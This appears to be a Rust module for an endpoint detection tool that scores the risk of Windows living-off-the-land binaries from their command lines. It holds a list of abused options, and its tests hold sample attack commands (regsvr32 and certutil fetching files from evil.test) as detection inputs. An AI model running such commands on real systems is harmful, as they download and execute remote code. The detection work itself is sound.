@@ -0,0 +1,315 @@
+//! Living-off-the-land binaries: the signed tools of Windows which run the code given on their
+//! command line (a DLL for *rundll32.exe*, a project for *msbuild.exe*, a download for
+//! *certutil.exe*...). Their signature says nothing of what they run.
+//!
+//! When the root of a gid is one of [LOLBINS], its context ([LolbinContext]) is assessed instead
+//! of the signed host:
+//! * it is monitored even in *System32*, is not muted by the whitelist, and the *signers* rules of
+//!   the exclusions do not match it (the *paths* and *sha256* ones still do);
+//! * its reputation prior ([LolbinContext::prior]) is computed from the file it runs (location,
+//!   signature), the URLs and the abused options of its command line, and the unsigned modules
+//!   it loaded from user-writable locations.
+//!
+//! The context is captured when the gid is first seen, once the payload of the host is loaded.
+//! It is logged and written to the incident reports.
+
+use std::path::{Path, PathBuf};
+
+use sysinfo::{Pid, ProcessExt, System, SystemExt};
+use tracing::info;
+
+use crate::exclusions::signer_subject;
+use crate::reputation::Location;
+
+/// Longer arguments are truncated in the context.
+const MAX_ARG_LEN: usize = 256;
+/// Unsigned modules kept, at most.
+#[cfg_attr(not(windows), allow(dead_code))]
+const MAX_MODULES: usize = 16;
+
+/// How the file run by a LOLBin is given.
+#[derive(Debug, Clone, Copy)]
+enum PayloadArg {
+    None,
+    /// The first argument which is not an option
+    FirstNonOption,
+    /// Same, up to a comma (*rundll32.exe file.dll,Entry*)
+    BeforeComma,
+    /// The value of one of these options (*msiexec.exe /i file.msi*)
+    After(&'static [&'static str]),
+}
+
+#[derive(Debug)]
+pub struct Lolbin {
+    /// Lowercase file name
+    pub name: &'static str,
+    payload: PayloadArg,
+    /// Lowercase prefixes of the arguments (without their leading dashes or slashes) known to be
+    /// abused
+    abused: &'static [&'static str],
+}
+
+pub const LOLBINS: [Lolbin; 16] = [
+    Lolbin { name: "bitsadmin.exe", payload: PayloadArg::None, abused: &["transfer", "addfile", "setnotifycmdline"] },
+    Lolbin { name: "certutil.exe", payload: PayloadArg::None, abused: &["urlcache", "decode", "encode", "verifyctl", "split"] },
+    Lolbin { name: "cmstp.exe", payload: PayloadArg::FirstNonOption, abused: &["ni"] },
+    Lolbin { name: "control.exe", payload: PayloadArg::FirstNonOption, abused: &[] },
+    Lolbin { name: "esentutl.exe", payload: PayloadArg::None, abused: &["vss"] },
+    Lolbin { name: "hh.exe", payload: PayloadArg::FirstNonOption, abused: &[] },
+    Lolbin { name: "installutil.exe", payload: PayloadArg::FirstNonOption, abused: &[] },
+    Lolbin { name: "mavinject.exe", payload: PayloadArg::None, abused: &["injectrunning"] },
+    Lolbin { name: "msbuild.exe", payload: PayloadArg::FirstNonOption, abused: &[] },
+    Lolbin { name: "msdt.exe", payload: PayloadArg::None, abused: &["ms-msdt:", "pcwdiagnostic"] },
+    Lolbin { name: "msiexec.exe", payload: PayloadArg::After(&["i", "package", "y", "z"]), abused: &[] },
+    Lolbin { name: "odbcconf.exe", payload: PayloadArg::After(&["f"]), abused: &["a"] },
+    Lolbin { name: "regasm.exe", payload: PayloadArg::FirstNonOption, abused: &[] },
+    Lolbin { name: "regsvcs.exe", payload: PayloadArg::FirstNonOption, abused: &[] },
+    Lolbin { name: "regsvr32.exe", payload: PayloadArg::FirstNonOption, abused: &["i:"] },
+    Lolbin { name: "rundll32.exe", payload: PayloadArg::BeforeComma, abused: &["javascript:", "vbscript:"] },
+];
+
+/// The LOLBin *exepath* is, if any. A copy in a user-writable location is assessed as any
+/// executable.
+pub fn lolbin_of(exepath: &Path) -> Option<&'static Lolbin> {
+    let path = exepath.to_string_lossy();
+    let name = path.rsplit(['\\', '/']).next()?.to_lowercase();
+    if Location::of(exepath) == Location::UserWritable {
+        return None;
+    }
+    LOLBINS.iter().find(|lolbin| lolbin.name == name)
+}
+
+pub fn is_lolbin(exepath: &Path) -> bool {
+    lolbin_of(exepath).is_some()
+}
+
+/// What a LOLBin was asked to run.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct LolbinContext {
+    pub host: String,
+    /// File run by the host: DLL, project, assembly, package...
+    pub payload: Option<PathBuf>,
+    /// Whether the payload is signed, None if it was not checked (a bare file name, resolved from
+    /// the system directories)
+    pub payload_signed: Option<bool>,
+    pub urls: Vec<String>,
+    /// Arguments known to be abused, as given
+    pub abused_args: Vec<String>,
+    /// Unsigned modules loaded from user-writable locations
+    pub foreign_modules: Vec<PathBuf>,
+}
+
+impl LolbinContext {
+    /// Parses the arguments (the executable first) of *lolbin*.
+    pub fn parse(lolbin: &Lolbin, args: &[String]) -> LolbinContext {
+        let args: Vec<&str> = args.get(1..).unwrap_or_default().iter().map(|a| a.trim_matches('"')).collect();
+        let option = |arg: &str| arg.strip_prefix(['-', '/']).map(|o| o.trim_start_matches(['-', '/']).to_lowercase());
+        let payload = match lolbin.payload {
+            PayloadArg::None => None,
+            PayloadArg::FirstNonOption => args.iter().find(|a| option(a).is_none()).copied(),
+            PayloadArg::BeforeComma => args
+                .iter()
+                .find(|a| option(a).is_none())
+                .and_then(|a| a.split(',').next())
+                .filter(|a| !a.contains(':') || a.contains(":\\")),
+            PayloadArg::After(options) => args
+                .windows(2)
+                .find(|pair| option(pair[0]).is_some_and(|o| options.contains(&o.as_str())))
+                .map(|pair| pair[1]),
+        };
+        let truncate = |arg: &str| arg.chars().take(MAX_ARG_LEN).collect::<String>();
+        LolbinContext {
+            host: String::from(lolbin.name),
+            payload: payload.filter(|p| !p.is_empty()).map(PathBuf::from),
+            payload_signed: None,
+            urls: args.iter().filter(|a| is_url(a)).map(|a| truncate(a)).collect(),
+            abused_args: args
+                .iter()
+                .filter(|a| {
+                    let arg = option(a).unwrap_or_else(|| a.to_lowercase());
+                    lolbin.abused.iter().any(|abused| arg.starts_with(abused))
+                })
+                .map(|a| truncate(a))
+                .collect(),
+            foreign_modules: Vec::new(),
+        }
+    }
+
+    /// Prior probability of being malicious, in place of the [crate::reputation] of the host: low
+    /// when it runs a signed or installed file, high when it runs a file of a user-writable or
+    /// remote location, downloads, or uses the abused options.
+    pub fn prior(&self) -> f32 {
+        // a LOLBin runs the code of the system most of the time
+        let mut logit = -1.0f32;
+        if let Some(payload) = &self.payload {
+            logit += if is_remote(payload) {
+                2.0
+            } else {
+                match Location::of(payload) {
+                    Location::UserWritable => 2.0,
+                    Location::Installed => -0.5,
+                    Location::Other => 0.0,
+                }
+            };
+            logit += match self.payload_signed {
+                Some(true) => -1.0,
+                Some(false) => 1.0,
+                None => 0.0,
+            };
+        }
+        if !self.urls.is_empty() {
+            logit += 1.5;
+        }
+        if !self.abused_args.is_empty() {
+            logit += 1.5;
+        }
+        if !self.foreign_modules.is_empty() {
+            logit += 1.5;
+        }
+        1.0 / (1.0 + (-logit).exp())
+    }
+}
+
+/// The context of *exepath* run as *pid*, if it is a LOLBin.
+pub fn capture(exepath: &Path, pid: u32) -> Option<LolbinContext> {
+    let lolbin = lolbin_of(exepath)?;
+    let mut system = System::new();
+    system.refresh_process(pid as Pid);
+    let args = system.process(pid as Pid).map(|p| p.cmd().to_vec()).unwrap_or_default();
+    let mut context = LolbinContext::parse(lolbin, &args);
+    context.payload_signed = context
+        .payload
+        .as_ref()
+        .filter(|payload| payload.is_absolute() || is_remote(payload))
+        .map(|payload| signer_subject(payload).is_some());
+    context.foreign_modules = foreign_modules(pid);
+    info!(
+        pid,
+        host = %context.host,
+        payload = %context.payload.as_ref().map_or(String::new(), |p| p.display().to_string()),
+        urls = ?context.urls,
+        abused = ?context.abused_args,
+        foreign_modules = context.foreign_modules.len(),
+        prior = context.prior(),
+        "LOLBin started"
+    );
+    Some(context)
+}
+
+/// The unsigned modules of *pid* loaded from user-writable locations.
+#[cfg(windows)]
+fn foreign_modules(pid: u32) -> Vec<PathBuf> {
+    ffi::modules(pid)
+        .into_iter()
+        .filter(|module| Location::of(module) == Location::UserWritable && signer_subject(module).is_none())
+        .take(MAX_MODULES)
+        .collect()
+}
+
+/// The LOLBins are Windows tools.
+#[cfg(not(windows))]
+fn foreign_modules(_pid: u32) -> Vec<PathBuf> {
+    Vec::new()
+}
+
+fn is_url(arg: &str) -> bool {
+    let arg = arg.to_lowercase();
+    ["http://", "https://", "ftp://"].iter().any(|scheme| arg.contains(scheme))
+}
+
+/// UNC path, or WebDAV.
+fn is_remote(path: &Path) -> bool {
+    path.to_string_lossy().starts_with(r"\\")
+}
+
+#[cfg(windows)]
+mod ffi {
+    use std::path::PathBuf;
+
+    use bindings::Windows::Win32::Foundation::CloseHandle;
+    use bindings::Windows::Win32::System::Threading::{OpenProcess, PROCESS_QUERY_INFORMATION, PROCESS_VM_READ};
+
+    /// Modules listed, at most.
+    const MAX_LISTED: usize = 1024;
+    const MAX_PATH_LEN: usize = 32_767;
+
+    #[link(name = "kernel32")]
+    extern "system" {
+        fn K32EnumProcessModules(process: isize, modules: *mut isize, size: u32, needed: *mut u32) -> i32;
+        fn K32GetModuleFileNameExW(process: isize, module: isize, filename: *mut u16, size: u32) -> u32;
+    }
+
+    /// The paths of the modules loaded by *pid*, empty if they cannot be listed.
+    pub fn modules(pid: u32) -> Vec<PathBuf> {
+        unsafe {
+            let handle = OpenProcess(PROCESS_QUERY_INFORMATION | PROCESS_VM_READ, false, pid);
+            if handle.is_invalid() || handle.0 == 0 {
+                return Vec::new();
+            }
+            let mut modules = vec![0isize; MAX_LISTED];
+            let mut needed = 0u32;
+            let size = (modules.len() * std::mem::size_of::<isize>()) as u32;
+            let mut paths = Vec::new();
+            if K32EnumProcessModules(handle.0, modules.as_mut_ptr(), size, &mut needed) != 0 {
+                modules.truncate((needed as usize / std::mem::size_of::<isize>()).min(MAX_LISTED));
+                let mut name = vec![0u16; MAX_PATH_LEN];
+                for module in modules {
+                    let len = K32GetModuleFileNameExW(handle.0, module, name.as_mut_ptr(), name.len() as u32);
+                    if len > 0 {
+                        paths.push(PathBuf::from(String::from_utf16_lossy(&name[..len as usize])));
+                    }
+                }
+            }
+            CloseHandle(handle);
+            paths
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::{Path, PathBuf};
+
+    use crate::lolbin::{is_lolbin, lolbin_of, LolbinContext};
+
+    #[test]
+    fn lolbin_contexts_should_be_parsed_and_weighted() {
+        let args = |line: &str| line.split(' ').map(String::from).collect::<Vec<_>>();
+        assert!(is_lolbin(Path::new(r"C:\Windows\System32\rundll32.exe")));
+        assert!(!is_lolbin(Path::new(r"C:\Users\bob\AppData\Local\Temp\rundll32.exe")));
+        assert!(!is_lolbin(Path::new(r"C:\Windows\System32\notepad.exe")));
+        let rundll32 = lolbin_of(Path::new(r"C:\Windows\System32\rundll32.exe")).unwrap();
+
+        let system = LolbinContext::parse(rundll32, &args("rundll32.exe shell32.dll,Control_RunDLL desk.cpl"));
+        assert_eq!(system.payload, Some(PathBuf::from("shell32.dll")));
+        let dropped = LolbinContext::parse(
+            rundll32,
+            &args(r"C:\Windows\System32\rundll32.exe C:\Users\bob\AppData\Roaming\x.dll,#1"),
+        );
+        assert_eq!(dropped.payload, Some(PathBuf::from(r"C:\Users\bob\AppData\Roaming\x.dll")));
+        let unsigned = LolbinContext { payload_signed: Some(false), ..dropped.clone() };
+        assert!(system.prior() < 0.5);
+        assert!(unsigned.prior() > dropped.prior() && dropped.prior() > 0.7);
+        let script = LolbinContext::parse(rundll32, &args(r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication""#));
+        assert_eq!((script.payload, script.abused_args.len()), (None, 1));
+
+        let regsvr32 = lolbin_of(Path::new(r"C:\Windows\SysWOW64\regsvr32.exe")).unwrap();
+        let squiblydoo = LolbinContext::parse(regsvr32, &args("regsvr32.exe /s /n /u /i:http://evil.test/a.sct scrobj.dll"));
+        assert_eq!(squiblydoo.payload, Some(PathBuf::from("scrobj.dll")));
+        assert_eq!(squiblydoo.urls, vec![String::from("/i:http://evil.test/a.sct")]);
+        assert_eq!(squiblydoo.abused_args, squiblydoo.urls);
+        assert!(squiblydoo.prior() > 0.8);
+
+        let certutil = lolbin_of(Path::new(r"C:\Windows\System32\certutil.exe")).unwrap();
+        let download = LolbinContext::parse(certutil, &args("certutil.exe -urlcache -split -f https://evil.test/p.exe p.exe"));
+        assert_eq!(download.abused_args, vec!["-urlcache", "-split"]);
+        assert!(download.prior() > 0.8);
+        assert!(LolbinContext::parse(certutil, &args("certutil.exe -hashfile setup.exe SHA256")).prior() < 0.5);
+
+        let msiexec = lolbin_of(Path::new(r"C:\Windows\System32\msiexec.exe")).unwrap();
+        let package = LolbinContext::parse(msiexec, &args(r"msiexec.exe /qn /i \\fileserver\deploy\agent.msi"));
+        assert_eq!(package.payload, Some(PathBuf::from(r"\\fileserver\deploy\agent.msi")));
+        let modules = LolbinContext { foreign_modules: vec![PathBuf::from(r"C:\Users\bob\Downloads\v.dll")], ..system.clone() };
+        assert!(modules.prior() > system.prior());
+    }
+}